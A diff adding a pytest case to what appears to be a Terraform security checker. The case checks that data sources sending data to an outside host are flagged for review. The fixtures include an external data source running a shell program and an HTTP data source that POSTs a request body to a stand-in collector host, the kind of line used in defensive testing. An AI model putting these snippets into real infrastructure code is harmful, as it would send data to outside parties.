@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.integration.test_acceptance import REVIEW, STATE, check, verdicts
+from tests.integration.test_acceptance import ALLOW, REVIEW, STATE, check, verdicts
 
 HEAD = """
 provider "aws" {
@@ -174,3 +174,28 @@ def test_what_an_object_is_copied_from_is_seen_or_not(tmp_path: Path) -> None:
     exit_code, _report = check(tmp_path, *STATE, "--class", "public")
 
     assert exit_code == REVIEW
+
+
+@pytest.mark.parametrize(
+    ("data", "verdict"),
+    [
+        (
+            'data "external" "x" {\n  program = ["sh", "-c", "send"]\n'
+            f"  query = {{ body = {BODY} }}\n}}\n",
+            REVIEW,
+        ),
+        (
+            'data "http" "x" {\n  url = "https://collector.example.com/in"\n'
+            f'  method = "POST"\n  request_body = {BODY}\n}}\n',
+            REVIEW,
+        ),
+        ('data "http" "x" {\n  url = "https://collector.example.com/in"\n}\n', ALLOW),
+    ],
+)
+def test_a_data_source_that_sends_data_away(
+    data: str, verdict: int, tmp_path: Path
+) -> None:
+    public = BUCKET.replace("sensitive", "public")
+    (tmp_path / "main.tf").write_text(HEAD + public + data)
+
+    assert check(tmp_path, *STATE, "--class", "public")[0] == verdict
